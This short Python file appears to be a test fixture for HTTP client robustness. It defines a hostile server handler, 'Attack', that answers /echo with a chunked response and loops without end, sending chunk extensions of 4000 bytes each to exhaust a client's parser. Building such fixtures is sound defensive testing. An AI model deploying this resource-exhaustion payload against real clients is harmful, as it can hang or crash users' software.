import server



class Attack(server.Broken):
    def answer(self):
        if not self.path.startswith("/echo"):
            return super().answer()
        self.wfile.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            self.wfile.write((b"1;ext=" + b"e" * 4000 + b"\r\nx\r\n") * 16)


server.serve(Attack)
